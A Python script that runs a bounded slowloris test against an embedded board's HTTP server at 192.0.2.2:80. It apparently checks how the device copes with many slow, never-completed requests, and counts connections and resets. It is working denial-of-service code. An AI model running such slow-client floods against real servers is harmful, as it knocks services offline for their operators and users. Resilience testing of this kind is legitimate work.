#!/usr/bin/env python3
"""Slow HTTP clients (slowloris) against 192.0.2.2:80 from inside the board's namespace: N connections that each
send one header line a second and never finish their request; a connection the board ends is opened again.
Usage: slowclients.py N SECONDS (both bounded)."""
import socket, sys, time, threading

n, seconds = min(int(sys.argv[1]), 64), min(float(sys.argv[2]), 120)
end = time.time() + seconds
stats = {"connects": 0, "resets": 0}
lock = threading.Lock()


def client(i):
    while time.time() < end:
        try:
            s = socket.create_connection(("192.0.2.2", 80), timeout=2)
        except OSError:
            time.sleep(0.2)
            continue
        with lock:
            stats["connects"] += 1
        try:
            s.sendall(b"GET / HTTP/1.1\r\n")
            k = 0
            while time.time() < end:
                time.sleep(1)
                s.sendall(b"X-Slow-%d: %d\r\n" % (i, k))
                k += 1
        except OSError:
            with lock:
                stats["resets"] += 1
        finally:
            s.close()


ts = [threading.Thread(target=client, args=(i,), daemon=True) for i in range(n)]
for t in ts:
    t.start()
    time.sleep(0.05)
for t in ts:
    t.join(seconds + 5)
print("slow clients: %d connections, %d ended by the board" % (stats["connects"], stats["resets"]))
